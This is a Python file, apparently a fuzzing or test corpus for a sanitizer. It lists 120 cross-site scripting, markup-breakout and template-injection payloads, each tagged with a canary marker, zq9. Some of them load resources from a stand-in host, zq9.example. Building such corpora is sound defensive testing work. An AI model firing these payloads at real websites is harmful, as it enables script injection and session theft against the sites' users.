"""Texts that want to be more than text. Each names `zq9`, by which what it made of itself would be found."""

HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart", "onbegin")
TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee")

PLAIN = (
    "<script>zq9()</script>", "<ScRiPt>zq9()</sCrIpT>", "<script src=//zq9.example></script>", "<zq9>", "<b zq9>x</b>",
    '"><script>zq9()</script>', "'><script>zq9()</script>", "</title><script>zq9()</script>",
    "</textarea><script>zq9()</script>", "</script><script>zq9()</script>", "</style><zq9>", "--><zq9>", "]]><zq9>",
    "<!--><zq9>-->", "<![CDATA[<zq9>]]>", "<?zq9 <zq9>?>", "<//zq9><zq9>", "<iframe src=javascript:zq9()>",
    "<iframe srcdoc='<zq9>'>", "<object data=javascript:zq9()>", "<embed src=javascript:zq9()>",
    "<base href=//zq9.example>",
    "<link rel=stylesheet href=//zq9.example>", "<meta http-equiv=refresh content='0;url=//zq9.example'>",
    "<style>*{background:url(//zq9.example)}</style>", "<form action=//zq9.example><button>x", "<math><mi zq9>",
    "<math><style><img src=x onerror=zq9()>", "<svg><style><img src=x onerror=zq9()>", "<svg><zq9>",
    "<svg><a xlink:href=javascript:zq9()><text>x", "<svg><script>zq9()</script>", "<svg><use href=data:zq9>",
    "<svg><foreignObject><zq9>", "<template><zq9></template>", "<noscript><zq9></noscript>", "<select><zq9></select>",
    "<table><zq9></table>", "<p style=background:url(//zq9.example)>", "<a href=javascript:zq9()>x</a>",
    "<a href='JaVa&#9;script:zq9()'>x</a>", "<a href='&#106;avascript:zq9()'>x</a>", "<a href=data:text/html,zq9>x</a>",
    "<button formaction=javascript:zq9()>x", "[x](javascript:zq9)", "[x](JaVaScript:zq9)", "[x](vbscript:zq9)",
    "[x](data:text/html,zq9)", "[x](&#106;avascript:zq9)", "[x](java%0ascript:zq9)", "![x](javascript:zq9)",
    "<javascript:zq9>", "`<zq9>`", "**<zq9>**", "&lt;zq9&gt;<zq9>", "&#60;zq9&#62;", "%3Czq9%3E", "\\u003czq9\\u003e",
    "{{7*7}}zq9", "{% raw %}zq9", "${zq9}", "#{zq9}", "<%= zq9 %>", "{zq9.__class__}", "%(zq9)s", "{{zq9|safe}}",
    "' zq9='1", '" zq9="1', "` zq9=`1", "x' onclick='zq9()", 'x" onclick="zq9()', "x onclick=zq9()",
    "\uff1czq9\uff1e", "<zq9\u00a0x>", "<zq9/x>", "< zq9>", "javascript:zq9()", "data:text/html,<zq9>",
)  # fmt: skip
STORED = (*PLAIN, *(f"<{tag} {name}=zq9()>" for tag in TAGS for name in HANDLERS))[:120]
"""One hundred and twenty of them."""
